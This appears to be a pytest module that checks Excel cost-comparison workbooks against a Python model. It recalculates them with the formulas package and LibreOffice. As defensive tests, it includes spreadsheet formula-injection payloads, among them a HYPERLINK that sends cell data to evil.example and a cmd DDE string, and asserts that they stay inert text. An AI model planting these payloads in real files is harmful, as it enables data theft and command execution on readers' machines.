"""The workbook: its live formulas agree with the Python model, recomputed by two engines."""

from __future__ import annotations

import atexit
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import formulas
import openpyxl
import pytest
import yaml
from hypothesis import HealthCheck, given, settings

from rhmodel.core.document import parse_yaml
from rhmodel.core.money.evaluation import evaluate
from rhmodel.core.money.scenarios import analyse
from rhmodel.core.products import SCENARIOS
from rhmodel.edges.bundled import SAMPLE_PARAMS_FILE, load_capabilities
from rhmodel.edges.exports import same_person
from rhmodel.edges.paramfile import load_parameters, parse_parameters
from rhmodel.edges.provenance import provenance
from rhmodel.edges.recalc import RECALC_PROFILE
from rhmodel.edges.workbook import METRICS, put_formula, write_workbook
from tests.core.money.test_plans import observed_sets
from tests.core.money.test_scenarios import param_sets
from tests.core.money.test_user_groups import param_sets_with_groups

HALF_CENT = 0.005


def _write(params, path: Path, pilot=None, draws=200) -> Path:
    # as written by openpyxl: these tests recalculate it themselves, with two engines
    matrix = load_capabilities()
    e = evaluate(params, matrix, draws=draws)
    write_workbook(e, matrix, provenance(params), path, pilot, cache=False)
    return path


def _name_cells(path: Path) -> dict[str, str]:
    """Defined name → formulas-package cell key, read from the file itself."""
    wb = openpyxl.load_workbook(path)
    out = {}
    for name, dn in wb.defined_names.items():
        sheet, ref = dn.attr_text.rsplit("!", 1)
        sheet = sheet.strip("'")
        out[name] = f"'[{path.name}]{sheet.upper()}'!{ref.replace('$', '')}"
    return out


def _cells(v) -> list:
    """Every value of a formulas result (a cell or a range), as plain Python values."""
    import numpy as np

    raw = v.value if hasattr(v, "value") else v
    return [x.item() if hasattr(x, "item") else x for x in np.asarray(raw, dtype=object).ravel()]


def _value(v):
    values = _cells(v)
    assert len(values) == 1, values
    return values[0]


def _expected(analysis, scenario: str, metric: str):
    v = getattr(analysis.scenario(scenario), metric)
    if v is None and scenario == "status_quo" and metric == "payback_months":
        return ""  # nothing spent, nothing to pay back: blank, not a dash among numbers
    if v is None:
        return "" if metric == "roi" else "never"
    return v


def _assert_equal(got, want, label):
    if isinstance(want, str):
        assert got == want, label
    else:
        assert abs(float(got) - want) <= HALF_CENT, (label, got, want)


class Recalculated:
    """A workbook computed by the ``formulas`` package, addressable by defined name."""

    def __init__(self, path: Path) -> None:
        self.names = _name_cells(path)
        self.model = formulas.ExcelModel().loads(str(path)).finish()
        self.solution = self.base = self.model.calculate()

    def __getitem__(self, name: str):
        return _value(self.solution[self.names[name]])

    def key(self, name: str) -> str:
        """The ``formulas`` key of a defined name (a key such as ``'[b.xlsx]PLANS'!B7`` as is)."""
        return self.names.get(name, name)

    def recalc(self, outputs: list[str] | None = None, **changes) -> None:
        """Recompute with ``changes`` (defined name → value) over the workbook's own inputs.

        ``outputs`` (defined names or cell keys) computes only what they need: the same values,
        in a fraction of the time, and only those can be read afterwards."""
        inputs = {self.names[k]: v for k, v in changes.items()}
        if not inputs and outputs is None:
            self.solution = self.base  # the workbook as written: computed once
            return
        wanted = None if outputs is None else [self.key(n) for n in outputs]
        self.solution = self.model.calculate(inputs=inputs, outputs=wanted)

    def errors(self) -> list[str]:
        bad = []
        for key, v in self.solution.items():
            for x in _cells(v):
                if isinstance(x, formulas.functions.XlError) or (
                    isinstance(x, str) and x.startswith("#") and x.endswith(("!", "?", "A"))
                ):
                    bad.append(f"{key}: {x}")
        return bad


_SHARED: dict[str, tuple[Path, Recalculated]] = {}
_SHARED_DIR: list[Path] = []


def shared_book(key: str, params=None, draws: int = 0) -> tuple[Path, Recalculated]:
    """A workbook written and loaded by ``formulas`` once per test session, shared by the tests
    (in this module and others) that only read it or recompute it through its names: loading
    is most of what a workbook test costs. ``key`` names the case (``params`` builds it the
    first time; the sample by default). Returned reset to the inputs it was written with."""
    if key not in _SHARED:
        if not _SHARED_DIR:
            folder = Path(tempfile.mkdtemp(prefix="rhmodel-books-"))
            atexit.register(shutil.rmtree, folder, True)
            _SHARED_DIR.append(folder)
        p = load_parameters(SAMPLE_PARAMS_FILE) if params is None else params
        path = _write(p, _SHARED_DIR[0] / f"{key}.xlsx", draws=draws)
        _SHARED[key] = (path, Recalculated(path))
    path, book = _SHARED[key]
    book.recalc()
    return path, book


def sample_recalculated() -> tuple[Path, Recalculated]:
    """The sample's workbook (with a 200-draw simulation), shared: see :func:`shared_book`."""
    return shared_book("sample", draws=200)


@pytest.fixture
def sample_book():
    path, _book = sample_recalculated()
    return path, load_parameters(SAMPLE_PARAMS_FILE)


def test_sample_workbook_agrees_with_the_model_and_follows_input_changes(sample_book):
    _path, params = sample_book
    _path, book = sample_recalculated()
    assert book.errors() == []
    a = analyse(params, load_capabilities())
    for s in SCENARIOS:
        for metric in METRICS:
            _assert_equal(book[f"{s}_{metric}"], _expected(a, s, metric), f"{s}_{metric}")
    assert book["recommended_scenario"] == a.recommended
    _assert_tei_equal(lambda name: book[name], a)
    # an input changed inside the workbook, through its name, recomputed
    book.recalc(logmein_price_per_agent_month=94, discount_rate=0.07)
    b = analyse(
        params.with_overrides(["logmein.price_per_agent_month=94", "discount_rate=0.07"]),
        load_capabilities(),
    )
    for s in SCENARIOS:
        for metric in METRICS:
            _assert_equal(book[f"{s}_{metric}"], _expected(b, s, metric), f"{s}_{metric}")
    assert book.errors() == []


def test_inputs_are_named_styled_and_validated(sample_book):
    path, params = sample_book
    wb = openpyxl.load_workbook(path)
    names = wb.defined_names
    for key in (
        "discount_rate",
        "logmein_price_per_agent_month",
        "logmein_agents",
        "residual_logmein_agents",
        "beyondtrust_price_per_seat_year",
        "right_size_npv",
        "status_quo_total_cost",
        "cancel_savings",
    ):
        assert key in names, key
    sheet, ref = names["logmein_agents"].attr_text.rsplit("!", 1)
    cell = wb[sheet.strip("'")][ref.replace("$", "")]
    assert cell.value == params["logmein.agents"]
    assert cell.font.color.rgb.endswith("0000CC")
    validations = wb["Inputs"].data_validations.dataValidation
    assert any(dv.formula1 == '"monthly,annual"' for dv in validations)
    assert wb["Summary"].freeze_panes == "A5"
    assert {
        "About",
        "Summary",
        "Inputs",
        "Decision",
        "Capabilities",
        "Cash flows",
        "Sensitivity",
        "Simulation",
    } <= set(wb.sheetnames)
    about = "\n".join(str(c.value) for row in wb["About"].iter_rows() for c in row if c.value)
    assert "ILLUSTRATIVE" in about and params.digest() in about


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(p=param_sets)
def test_random_parameter_sets_agree(tmp_path_factory, p):
    p = {**p, "horizon_months": min(p["horizon_months"], 24)}  # keeps each workbook small
    params = parse_parameters(parse_yaml(yaml.safe_dump(p), "p.yaml"))
    path = _write(params, tmp_path_factory.mktemp("h") / "h.xlsx", draws=10)
    book = Recalculated(path)
    a = analyse(params, load_capabilities())
    for s in SCENARIOS:
        for metric in METRICS:
            _assert_equal(book[f"{s}_{metric}"], _expected(a, s, metric), f"{s}_{metric}")
    _assert_tei_equal(lambda name: book[name], a)
    assert book.errors() == []


def _assert_tei_equal(get, a) -> None:
    """The workbook's year table, present values and prepaid-beyond figures equal the model's."""
    for s in SCENARIOS:
        r = a.scenario(s)
        _assert_equal(get(f"{s}_prepaid_beyond_horizon"), r.prepaid_beyond_horizon, s)
        if s == "status_quo":
            continue
        for row in r.by_year:
            _assert_equal(get(f"{s}_benefits_year_{row.year}"), row.benefits, (s, row.year))
            _assert_equal(get(f"{s}_costs_year_{row.year}"), row.costs, (s, row.year))
        _assert_equal(get(f"{s}_pv_benefits"), r.pv_benefits, s)
        _assert_equal(get(f"{s}_pv_costs"), r.pv_costs, s)


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_outside_text_stays_inert(tmp_path):
    head = "session_id,tool,start,end,technician,reason\n"
    rows = "".join(
        f'bt{i},beyondtrust,2027-01-04T09:0{i}:00Z,2027-01-04T09:30:00Z,"{p}",pam\n'
        for i, p in enumerate(x.replace('"', '""') for x in PAYLOADS)
    )
    (tmp_path / "pilot.csv").write_text(head + rows)
    params_file = tmp_path / "p.yaml"
    params_file.write_text(
        yaml.safe_dump(
            {
                "organisation": '=HYPERLINK("http://evil.example")',
                "beyondtrust": {
                    "concurrent_seats": 10,
                    "price_per_seat_year": 2000,
                    "months_to_renewal": 2,
                },
                "pilot": {"files": ["pilot.csv"]},
            }
        )
    )
    from rhmodel.edges.pilotfiles import load_pilot

    params = load_parameters(params_file)
    report = load_pilot([tmp_path / "pilot.csv"], load_capabilities())
    path = _write(params, tmp_path / "book.xlsx", pilot=report)
    wb = openpyxl.load_workbook(path)
    # XML reads a carriage return back as a line feed: the text is otherwise unchanged
    # technicians are read as one spelling per person (trimmed): the payloads as normalised
    wanted = {same_person(p) for p in PAYLOADS} | {params["organisation"]}
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value in wanted:
                    seen[c.value] = c
    assert set(seen) == wanted
    for text, c in seen.items():
        assert c.data_type == "s", text
        assert c.quotePrefix, text
    # and no engine evaluates them: formulas reads them back as the same text
    book = Recalculated(path)
    texts = {x for v in book.solution.values() for x in _cells(v)}
    assert wanted <= texts


def test_formula_writer_refuses_other_functions():
    ws = openpyxl.Workbook().active
    with pytest.raises(ValueError, match="INDIRECT"):
        put_formula(ws["A1"], '=INDIRECT("A2")')
    with pytest.raises(ValueError, match="must start"):
        put_formula(ws["A1"], "SUM(A1)")
    put_formula(ws["A1"], '=IF(A2="WEBSERVICE(x)",1,0)')  # a function name inside a string


def test_cli_writes_atomically_and_refuses_bad_paths(cli, tmp_path):
    out = tmp_path / "book.xlsx"
    r = cli("excel", SAMPLE_PARAMS_FILE, "--out", out, "--simulate", "100")
    assert r.returncode == 0, r.stderr
    good = out.read_bytes()
    # a failing run (bad parameter) leaves the good workbook untouched, with no stray files
    r = cli("excel", SAMPLE_PARAMS_FILE, "--set", "discount_rate=3", "--out", out)
    assert r.returncode == 2 and r.stderr.startswith("error: --set: discount_rate")
    assert out.read_bytes() == good
    assert sorted(p.name for p in tmp_path.iterdir()) == ["book.xlsx"]
    r = cli("excel", SAMPLE_PARAMS_FILE, "--out", tmp_path / "book.csv")
    assert r.returncode == 2 and "must end in .xlsx" in r.stderr
    # every verb's --out creates its folder (issue 24, item 5)
    r = cli("excel", SAMPLE_PARAMS_FILE, "--out", tmp_path / "no" / "book.xlsx")
    assert r.returncode == 0 and (tmp_path / "no" / "book.xlsx").exists(), r.stderr


def test_a_failure_while_writing_keeps_the_old_file(tmp_path, monkeypatch):
    import rhmodel.edges.workbook as wbmod

    params = load_parameters(SAMPLE_PARAMS_FILE)
    path = _write(params, tmp_path / "book.xlsx", draws=10)
    before = path.read_bytes()

    def boom(_wb):
        raise OSError("disk full")

    monkeypatch.setattr(wbmod, "workbook_bytes", boom)
    with pytest.raises(OSError):
        _write(params, path, draws=10)
    assert path.read_bytes() == before


# ---- LibreOffice ----------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None and os.environ.get("CI") != "true",
    reason="LibreOffice (soffice) is not installed on this machine; CI installs "
    "libreoffice-calc-nogui and runs this test",
)


def libreoffice_recalculated(path: Path, out_dir: Path) -> Path:
    """Open ``path`` in headless LibreOffice, recalculate everything, save a copy."""
    return libreoffice_recalculated_many([path], out_dir)[path.name]


@needs_soffice
def test_libreoffice_recalculation_agrees(tmp_path):
    # every cost line of the economics issue, a yearly uplift on monthly terms, a vendor
    # minimum that raises the pool, and a horizon that cuts an annual prepayment
    params = load_parameters(
        SAMPLE_PARAMS_FILE,
        [
            "logmein.price_per_agent_month=71.25",
            "logmein.term_months=1",
            "logmein.extras_per_year=6000",
            "logmein.extras_scale=per_agent",
            "logmein.residual_price_per_agent_month=55",
            "beyondtrust.appliance_per_year=5000",
            "beyondtrust.min_seats=8",
            "remote_help.licensing=add_on",
            "remote_help.licensed_users=300",
            "remote_help.admin_hours_per_month=10",
            "remote_help.admin_rate_per_hour=90",
            "remote_help.start_month=4",
            "transition.pilot_cost=7000",
            "horizon_months=30",
            "risk_adjustment.benefit_haircut=0.1",
        ],
    )
    path = _write(params, tmp_path / "book.xlsx", draws=10)
    converted = libreoffice_recalculated(path, tmp_path)
    wb = openpyxl.load_workbook(converted, data_only=True)  # also: it re-opens, no repair
    a = analyse(params, load_capabilities())
    assert a.scenario("right_size").prepaid_beyond_horizon > 0  # the case cuts a prepayment

    def get(name: str):
        sheet, ref = wb.defined_names[name].attr_text.rsplit("!", 1)
        return wb[sheet.strip("'")][ref.replace("$", "")].value

    for s in SCENARIOS:
        for metric in METRICS:
            got = get(f"{s}_{metric}")
            want = _expected(a, s, metric)
            if want == "":
                assert got in ("", None), (s, metric, got)
            else:
                _assert_equal(got, want, f"{s}_{metric}")
    _assert_tei_equal(get, a)
    errors = [
        f"{ws.title}!{c.coordinate}={c.value}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
        and c.value.startswith("#")
        and c.value.endswith(("!", "?", "A", "0"))
    ]
    assert errors == []
    # the injection payloads survive LibreOffice as text, too
    head = "session_id,tool,start,end,technician,reason\n"
    (tmp_path / "pilot.csv").write_text(
        head
        + "".join(
            f'b{i},beyondtrust,2027-01-04T09:00:00Z,2027-01-04T09:30:00Z,"{p}",pam\n'
            for i, p in enumerate(x.replace('"', '""') for x in PAYLOADS)
        )
    )
    from rhmodel.edges.pilotfiles import load_pilot

    report = load_pilot([tmp_path / "pilot.csv"], load_capabilities())
    path2 = _write(params, tmp_path / "inj.xlsx", pilot=report, draws=10)
    converted2 = libreoffice_recalculated(path2, tmp_path)
    texts = {
        c.value
        for row in openpyxl.load_workbook(converted2, data_only=True)["Pilot"].iter_rows()
        for c in row
    }
    assert {same_person(p) for p in PAYLOADS} <= texts


def mixed_key(price: float, observed: dict) -> str:
    """The shared book's key of a two-contract case (``BOTH`` at a LogMeIn price)."""
    seen = "-".join(f"{c}.{r}.{n}" for c, v in sorted(observed.items()) for r, n in v.items())
    return f"mixed-{price:g}-{seen}"


@pytest.mark.parametrize(
    ("observed", "price", "want"),
    [
        ({"beyondtrust": {"pam": 20}}, 50, "logmein_cancel+beyondtrust_right_size"),
        # dear LogMeIn agents whose work BeyondTrust can take (unattended: yes there)
        (
            {"logmein": {"unattended": 30}, "beyondtrust": {"pam": 20}},
            400,
            "logmein_consolidate+beyondtrust_right_size",
        ),
    ],
)
def test_a_mixed_plan_is_computed_live_and_recommended(observed, price, want):
    from tests.core.money.test_plans import BOTH, _merge, _params

    params = _params(_merge(BOTH, logmein__price_per_agent_month=price), observed)
    a = analyse(params, load_capabilities())
    assert a.recommended == want  # the case exercises a mixed plan
    # shared with the Plans sheet's tests (tests/edges/test_workbook_plans.py)
    path, book = shared_book(mixed_key(price, observed), params)
    assert book.errors() == []
    assert book["recommended_scenario"] == a.recommended
    for metric in METRICS:
        _assert_equal(book[f"plan_{metric}"], _expected(a, a.recommended, metric), metric)
    wb = openpyxl.load_workbook(path)
    assert "Plan" in wb.sheetnames
    plan_text = " ".join(str(c.value) for row in wb["Plan"].iter_rows() for c in row if c.value)
    assert "written notice by" in plan_text and a.recommended in plan_text


FLIPS = [
    *(
        f"requirements.{k}={v}"
        for k in (
            "external_or_unmanaged_support",
            "unattended_windows",
            "privileged_access_management",
            "mandatory_session_recording",
            "bundled_rmm_ticketing",
            "unsupported_platforms",
            "on_prem_or_air_gapped",
        )
        for v in ("true", "all")
    ),
    "tenant_cloud=gcc",
    "tenant_cloud=gcc_high",
]


def _flipped_books(tmp_path: Path) -> tuple[Path, dict[str, Path], list]:
    """The sample's workbook, and one copy per flip with the input changed through its
    defined name (as a colleague would in Excel); plus accepting every observed reason."""
    base = load_parameters(SAMPLE_PARAMS_FILE)
    path = _write(base, tmp_path / "base.xlsx", draws=0)
    wb = openpyxl.load_workbook(path)
    copies = {}
    cases = [*FLIPS, "accept-all"]
    for i, flip in enumerate(cases):
        book = openpyxl.load_workbook(path)
        for name, value in _changes(flip).items():
            sheet, ref = book.defined_names[name].attr_text.rsplit("!", 1)
            book[sheet.strip("'")][ref.replace("$", "")].value = value
        copies[flip] = tmp_path / f"flip{i}.xlsx"
        book.save(copies[flip])
    del wb
    return path, copies, cases


def _python_answer(flip: str):
    base = load_parameters(SAMPLE_PARAMS_FILE)
    if flip == "accept-all":
        codes = ", ".join(sorted(base.observed_residual))
        p = load_parameters(SAMPLE_PARAMS_FILE, [f"decision.accept=[{codes}]"])
    else:
        p = load_parameters(SAMPLE_PARAMS_FILE, [flip])
    return analyse(p, load_capabilities())


def _changes(flip: str) -> dict:
    if flip == "accept-all":
        return {
            f"accept_{code}": True for code in load_parameters(SAMPLE_PARAMS_FILE).observed_residual
        }
    key, value = flip.split("=")
    return {key.replace(".", "_"): {"true": True}.get(value, value)}


def test_flipping_a_requirement_in_the_workbook_follows_the_python_decision():
    _path, book = sample_recalculated()  # one model, recomputed per flip through its names
    read = [
        "verdict",
        "recommended_scenario",
        "plan_timed_npv",
        *(f"{s}_viable" for s in SCENARIOS),
    ]
    for flip in [*FLIPS, "accept-all"]:
        book.recalc(outputs=read, **_changes(flip))
        a = _python_answer(flip)
        assert book["verdict"] == a.decision.verdict, flip
        for s in SCENARIOS:
            assert book[f"{s}_viable"] == ("yes" if a.scenario(s).viable else "no"), (flip, s)
        assert book["recommended_scenario"] == a.recommended, flip
        # the live timed NPV is the engine's for the plan it recommends
        want = a.option_npv_timed[a.recommended]
        assert abs(book["plan_timed_npv"] - want) <= 0.01, (flip, book["plan_timed_npv"], want)


@needs_soffice
def test_libreoffice_follows_the_python_decision_after_each_flip(tmp_path):
    _path, copies, cases = _flipped_books(tmp_path)
    converted = libreoffice_recalculated_many(list(copies.values()), tmp_path)
    for flip in cases:
        wb = openpyxl.load_workbook(converted[copies[flip].name], data_only=True)

        def get(name: str, wb=wb):
            sheet, ref = wb.defined_names[name].attr_text.rsplit("!", 1)
            return wb[sheet.strip("'")][ref.replace("$", "")].value

        a = _python_answer(flip)
        assert get("verdict") == a.decision.verdict, flip
        for s in SCENARIOS:
            assert get(f"{s}_viable") == ("yes" if a.scenario(s).viable else "no"), (flip, s)
        assert get("recommended_scenario") == a.recommended, flip


def libreoffice_recalculated_many(paths: list[Path], out_dir: Path) -> dict[str, Path]:
    """Recalculate several workbooks in one LibreOffice run (one start-up)."""
    assert SOFFICE, "CI must install libreoffice-calc-nogui"
    profile = out_dir / "profile"
    (profile / "user").mkdir(parents=True, exist_ok=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_PROFILE)
    result = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--norestore",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out_dir / "out"),
            *map(str, paths),
        ],
        capture_output=True,
        text=True,
        timeout=600,
    )
    out = {p.name: out_dir / "out" / p.name for p in paths}
    missing = [n for n, p in out.items() if not p.exists()]
    assert not missing, result.stdout + result.stderr
    return out


@needs_soffice
def test_the_written_workbook_carries_its_values_for_readers_that_do_not_calculate(cli, tmp_path):
    out = tmp_path / "book.xlsx"
    r = cli("excel", SAMPLE_PARAMS_FILE, "--out", out)
    assert r.returncode == 0, r.stderr
    wb = openpyxl.load_workbook(out, data_only=True)  # what pandas and mail previews read
    a = analyse(load_parameters(SAMPLE_PARAMS_FILE), load_capabilities())

    def get(name: str):
        sheet, ref = wb.defined_names[name].attr_text.rsplit("!", 1)
        return wb[sheet.strip("'")][ref.replace("$", "")].value

    for s in SCENARIOS:
        _assert_equal(get(f"{s}_npv"), a.scenario(s).npv, s)
    assert get("recommended_scenario") == a.recommended
    assert get("verdict") == a.decision.verdict
    about = " ".join(str(c.value) for row in wb["About"].iter_rows() for c in row if c.value)
    assert "Cached in this file" in about
    # and the formulas are still there, live
    assert str(openpyxl.load_workbook(out)["Summary"]["E6"].value).startswith("=")


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(observed=observed_sets)
def test_the_workbook_judges_plans_as_the_python_coverage_rules(tmp_path_factory, observed):
    # random residual work per contract: every pinned scenario's viability and the
    # recommendation, recomputed from the workbook's own formulas, equal Python's
    from tests.core.money.test_plans import BOTH, _merge, _params

    params = _params(_merge(BOTH, horizon_months=12), observed)
    a = analyse(params, load_capabilities())
    path = _write(params, tmp_path_factory.mktemp("cov") / "cov.xlsx", draws=0)
    book = Recalculated(path)
    assert book["verdict"] == a.decision.verdict
    for s in SCENARIOS:
        assert book[f"{s}_viable"] == ("yes" if a.scenario(s).viable else "no"), s
    if a.recommended not in SCENARIOS:
        assert book["plan_viable"] == "yes"
    assert book["recommended_scenario"] == a.recommended


# ---- Remote Help licences per user group ----------------------------------------------------

GROUPS = [
    # 3,400 frontline sharers at a quoted (here illustrative) price, and an injection attempt
    # as a group's name: it must stay text
    {
        "name": '=HYPERLINK("http://evil.example","F3 ward staff")',
        "users": 3400,
        "licence": "frontline",
        "price_per_user_month": {"value": 2.0, "illustrative": True},
    },
    {"name": "Contractors", "helpers": 20, "sharers": 100, "licence": "addon"},
    {
        "name": "Scanners",
        "helpers": 12,
        "sharers": 900,
        "licence": "plan2",
        "android_dedicated": True,
    },
    {"name": "Office", "users": 5000, "licence": "included"},
]


def _grouped_params(*extra: str):
    groups = yaml.safe_dump(GROUPS, default_flow_style=True).strip()
    return load_parameters(
        SAMPLE_PARAMS_FILE,
        [f"remote_help.user_groups={groups}", "remote_help.start_month=3", *extra],
    )


def test_user_groups_are_live_inputs_and_agree_with_the_model(tmp_path):
    params = _grouped_params()
    assert [g.monthly_cost for g in params.user_groups] == [6800.0, 420.0, 48.0, 0.0]
    path = _write(params, tmp_path / "groups.xlsx", draws=0)
    book = Recalculated(path)
    assert book.errors() == []
    assert book["remote_help_user_groups_monthly_cost"] == pytest.approx(7268.0)
    assert book["remote_help_user_groups_2_licensed"] == 12  # helpers only
    a = analyse(params, load_capabilities())
    for s in SCENARIOS:
        for metric in METRICS:
            _assert_equal(book[f"{s}_{metric}"], _expected(a, s, metric), f"{s}_{metric}")
    _assert_tei_equal(lambda name: book[name], a)
    # a group changed inside the workbook, through its names, recomputed
    book.recalc(
        remote_help_user_groups_0_users=3000,
        remote_help_user_groups_0_price_per_user_month=2.5,
        remote_help_user_groups_3_licence="suite",
    )
    changed = [dict(g) for g in GROUPS]
    changed[0] = {**changed[0], "users": 3000, "price_per_user_month": 2.5}
    changed[3] = {**changed[3], "licence": "suite"}
    b = analyse(
        load_parameters(
            SAMPLE_PARAMS_FILE,
            [
                "remote_help.user_groups="
                + yaml.safe_dump(changed, default_flow_style=True).strip(),
                "remote_help.start_month=3",
            ],
        ),
        load_capabilities(),
    )
    for s in SCENARIOS:
        for metric in METRICS:
            _assert_equal(book[f"{s}_{metric}"], _expected(b, s, metric), f"{s}_{metric}")
    # the group's name is inert text
    wb = openpyxl.load_workbook(path)
    ws = wb["User groups"]
    name = ws["B5"]
    assert name.value == GROUPS[0]["name"] and name.data_type == "s" and name.quotePrefix
    assert "ILLUSTRATIVE" in str(ws["K5"].value)


@needs_soffice
def test_libreoffice_recalculation_agrees_with_user_groups(tmp_path):
    params = _grouped_params("risk_adjustment.cost_uplift=0.1", "horizon_months=30")
    path = _write(params, tmp_path / "groups.xlsx", draws=0)
    converted = libreoffice_recalculated(path, tmp_path)
    wb = openpyxl.load_workbook(converted, data_only=True)
    a = analyse(params, load_capabilities())

    def get(name: str):
        sheet, ref = wb.defined_names[name].attr_text.rsplit("!", 1)
        return wb[sheet.strip("'")][ref.replace("$", "")].value

    assert get("remote_help_user_groups_monthly_cost") == pytest.approx(7268.0)
    for s in SCENARIOS:
        for metric in METRICS:
            want = _expected(a, s, metric)
            got = get(f"{s}_{metric}")
            if want == "":
                assert got in ("", None), (s, metric, got)
            else:
                _assert_equal(got, want, f"{s}_{metric}")
    _assert_tei_equal(get, a)
    assert wb["User groups"]["B5"].value == GROUPS[0]["name"]


@settings(
    max_examples=5,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(p=param_sets_with_groups)
def test_random_user_groups_agree(tmp_path_factory, p):
    p = {**p, "horizon_months": min(p["horizon_months"], 18)}
    params = parse_parameters(parse_yaml(yaml.safe_dump(p), "p.yaml"))
    path = _write(params, tmp_path_factory.mktemp("g") / "g.xlsx", draws=0)
    book = Recalculated(path)
    a = analyse(params, load_capabilities())
    for s in SCENARIOS:
        for metric in METRICS:
            _assert_equal(book[f"{s}_{metric}"], _expected(a, s, metric), f"{s}_{metric}")
    _assert_tei_equal(lambda name: book[name], a)
